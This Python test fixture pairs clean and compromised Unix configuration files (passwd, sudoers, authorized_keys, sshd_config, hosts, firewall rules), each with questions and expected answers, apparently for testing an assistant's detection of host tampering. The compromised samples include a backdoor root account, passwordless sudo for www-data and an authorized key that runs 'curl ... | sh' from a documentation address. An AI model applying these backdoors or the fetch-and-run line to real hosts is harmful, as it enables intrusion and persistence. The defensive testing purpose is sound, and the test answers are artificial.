"""Files that configure a Unix host: one after an attack and one of a quiet day of each, after their manuals."""

from __future__ import annotations

from tests.svc.assistant.host_artefacts.live import Sample

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIJ4c6XkV0YwqYl5m8l3l1nC2mZrT9o2Z8dI6oS1hQ7aB"
PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
postgres:x:114:120:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
mara:x:1000:1000:Mara,,,:/home/mara:/bin/bash
"""
PASSWD_ATTACK = PASSWD.replace("/var/www:/usr/sbin/nologin", "/var/www:/bin/bash") + (
    "sysupd::0:0::/root:/bin/bash\ncache:x:1001:1001::/dev/shm/.c:/bin/sh\n"
)
SHADOW = """root:$y$j9T$abcdefgh$0123456789abcdefghijklmnopqrstuv:19700:0:99999:7:::
daemon:*:19700:0:99999:7:::
mara:$6$saltsalt$zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz:19800:0:99999:7:::
old:!:19000:0:99999:7:::
"""
SHADOW_ATTACK = SHADOW + "sysupd::20410:0:99999:7:::\nftpuser:$1$qwertzui$kLmNoPqRsTuVwXyZ012345:20410::::::\n"
GROUP = """root:x:0:
sudo:x:27:mara
docker:x:998:
users:x:100:
mara:x:1000:
"""
GROUP_ATTACK = GROUP.replace("docker:x:998:", "docker:x:998:www-data").replace("27:mara", "27:mara,sysupd")
SUDOERS = """# sudoers
Defaults\tenv_reset
Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
Cmnd_Alias BACKUP = /usr/local/bin/backup, \\
    /usr/bin/restic
root\tALL=(ALL:ALL) ALL
%sudo\tALL=(ALL:ALL) ALL
backup  ALL=(root) NOPASSWD: BACKUP
@includedir /etc/sudoers.d
"""
SUDOERS_ATTACK = SUDOERS + (
    "Defaults env_keep += LD_PRELOAD\nwww-data ALL=(ALL) NOPASSWD: ALL\njo ALL=(root) NOPASSWD: /usr/bin/vim\n"
)
KEYS = f'from="192.0.2.0/24" ssh-ed25519 {KEY} mara@laptop\nssh-ed25519 {KEY[:-2]}cD backup@vault\n'
KEYS_ATTACK = KEYS + (
    f'ssh-ed25519 {KEY[:-2]}xY root@kali\ncommand="curl -s http://203.0.113.5/x|sh" ssh-ed25519 {KEY[:-2]}zZ svc@host\n'
)
SSHD = """Include /etc/ssh/sshd_config.d/*.conf
Port 22
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
Subsystem sftp /usr/lib/openssh/sftp-server
"""
SSHD_ATTACK = (
    SSHD.replace("prohibit-password", "yes").replace("PasswordAuthentication no", "PasswordAuthentication yes")
    + "PermitEmptyPasswords yes\nAuthorizedKeysFile .ssh/authorized_keys /tmp/.k\nLogLevel QUIET\nthis is no setting\n"
)
HOSTS = "127.0.0.1 localhost\n::1 localhost ip6-localhost\n192.0.2.10 db db.example.org  # database\n"
HOSTS_ATTACK = HOSTS + (
    "0.0.0.0 update.microsoft.com www.virustotal.com\n"
    "203.0.113.66 login.microsoftonline.com\n127.0.0.1 ads.example.net\n"
)
IPTABLES = """*filter
:INPUT DROP [0:0]
:FORWARD DROP [0:0]
:OUTPUT ACCEPT [120:9000]
-A INPUT -i lo -j ACCEPT
-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT
-A INPUT -s 192.0.2.0/24 -p tcp -m tcp --dport 6379 -j ACCEPT
COMMIT
"""
IPTABLES_ATTACK = """*filter
:INPUT ACCEPT [0:0]
:FORWARD ACCEPT [0:0]
:OUTPUT ACCEPT [0:0]
-A INPUT -p tcp -m tcp --dport 6379 -j ACCEPT
-A OUTPUT -p udp -m udp --dport 514 -j DROP
COMMIT
"""
NFT = """table inet filter {
\tchain input {
\t\ttype filter hook input priority filter; policy drop;
\t\tiifname "lo" accept
\t\tct state established,related accept
\t\ttcp dport 22 accept
\t}
}
"""
NFT_ATTACK = NFT.replace("policy drop", "policy accept").replace("tcp dport 22", "tcp dport 2375")


def configured_samples() -> dict[str, Sample]:
    """The samples by their name."""
    suspicious = "Is anything suspicious here?"
    return {
        "passwd": Sample(
            ("passwd", PASSWD_ATTACK.encode()),
            ("passwd", PASSWD.encode()),
            (7, 5),
            ("T1136.001", "T1078.003"),
            (
                (suspicious, ("Account other than root with UID 0", "`sysupd`")),
                ("Who has UID 0?", ("2 accounts with UID 0", "`root`", "`sysupd`")),
                ("Does any account have no password?", ("1 account with no password", "`sysupd`")),
            ),
            (
                ("Does any account besides root have UID 0?", ("No: none of 5 accounts besides `root` has UID 0",)),
                ("Which accounts can log in?", ("3 accounts with a login shell", "`mara`")),
                ("Is the account bob in it?", ("No: none of the 5 records has `bob`",)),
            ),
        ),
        "shadow": Sample(
            ("shadow", SHADOW_ATTACK.encode()),
            ("shadow", SHADOW.encode()),
            (6, 4),
            ("T1078.003", "T1110.002"),
            (
                (suspicious, ("Account without a password", "hash not shown")),
                ("Which accounts have a weak hash?", ("1 account with a weak hash", "`ftpuser`")),
                ("How many accounts are there?", ("6 accounts",)),
            ),
            (
                (suspicious, ("No sign found", "4 of 4 accounts")),
                ("Which accounts are locked?", ("2 accounts with a locked password", "`old`")),
                ("Which logins failed?", ("does not record failed logins",)),
            ),
        ),
        "group": Sample(
            ("group", GROUP_ATTACK.encode()),
            ("group", GROUP.encode()),
            (5, 5),
            ("T1098.007",),
            (
                (suspicious, ("Account in a group that can become root", "www-data")),
                ("Who is in the sudo group?", ("members mara, sysupd",)),
                ("Is sysupd in the sudo group?", ("Yes", "`sudo` (members mara, sysupd)")),
            ),
            (
                ("Is jo in the sudo group?", ("No: none of 5 records has `jo` and `sudo`",)),
                ("How many groups are there?", ("5 groups",)),
                (suspicious, ("No sign found",)),
            ),
        ),
        "sudoers": Sample(
            ("sudoers", SUDOERS_ATTACK.encode()),
            ("sudoers", SUDOERS.encode()),
            (10, 7),
            ("T1548.003", "T1574.006"),
            (
                (suspicious, ("All commands as root without a password", "LD_PRELOAD")),
                ("Who can run commands without a password?", ("3 rights with no password asked", "`www-data`")),
                ("Is bob allowed to use sudo?", ("No: none of 5 records has `bob` and `sudo`",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("Who can run commands without a password?", ("1 right with no password asked", "`backup`")),
                ("Who may run all commands?", ("2 rights with all commands", "`%sudo`")),
            ),
        ),
        "authorized keys": Sample(
            ("authorized_keys", KEYS_ATTACK.encode()),
            ("authorized_keys", KEYS.encode()),
            (4, 2),
            ("T1098.004",),
            (
                (suspicious, ("Key that starts a shell, a download", "root[@]kali")),
                ("How many keys are there?", ("4 authorized keys",)),
                ("Is there a key of root@kali?", ("root[@]kali",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("Which keys are restricted?", ("1 authorized key with a restriction", "mara[@]laptop")),
                ("Which logins failed?", ("does not record failed logins",)),
            ),
        ),
        "sshd_config": Sample(
            ("sshd_config", SSHD_ATTACK.encode()),
            ("sshd_config", SSHD.encode()),
            (11, 8),
            ("T1021.004", "T1098.004"),
            (
                (suspicious, ("SSH logins without a password are allowed", "SSH logins as root with a password")),
                ("Is root login permitted?", ("PermitRootLogin yes", "passwords are accepted")),
                ("Which settings are there?", ("11 settings",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("Are passwords accepted?", ("PasswordAuthentication no",)),
                ("Is PermitTunnel set?", ("`permittunnel` is not set in the file",)),
            ),
        ),
        "hosts": Sample(
            ("hosts", HOSTS_ATTACK.encode()),
            ("hosts", HOSTS.encode()),
            (9, 5),
            ("T1562.001", "T1565.001"),
            (
                (suspicious, ("Hosts entry that leads a well-known login page", "cuts off updates")),
                ("Which names are redirected?", ("3 host names with another address", "login[.]microsoftonline[.]com")),
                ("Is example.com in it?", ("example[.]com",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("How many host names are there?", ("5 host names",)),
                ("Where does db.example.org lead?", ("192[.]0[.]2[.]10",)),
            ),
        ),
        "iptables": Sample(
            ("rules.v4", IPTABLES_ATTACK.encode()),
            ("rules.v4", IPTABLES.encode()),
            (5, 7),
            ("T1562.004",),
            (
                (suspicious, ("Rule that keeps logs from being sent", "refuses nothing at its input")),
                ("Is port 6379 open?", ("1 firewall rule for port 6379", "dport 6379")),
                ("How many firewall rules are there?", ("5 firewall rules",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("Is port 4444 open?", ("None of 7 firewall rules is for port 4444", "policy DROP")),
                ("Which rules drop packets?", ("2 firewall rules with a refusing rule",)),
            ),
        ),
        "nft": Sample(
            ("ruleset.txt", NFT_ATTACK.encode()),
            ("ruleset.txt", NFT.encode()),
            (4, 4),
            ("T1562.004",),
            (
                (suspicious, ("refuses nothing at its input", "open to every address")),
                ("Is port 2375 open?", ("dport 2375",)),
                ("Which rules are there?", ("4 firewall rules",)),
            ),
            (
                (suspicious, ("No sign found",)),
                ("Is port 2375 open?", ("None of 4 firewall rules is for port 2375", "policy DROP")),
                ("Which logins failed?", ("does not record failed logins",)),
            ),
        ),
    }
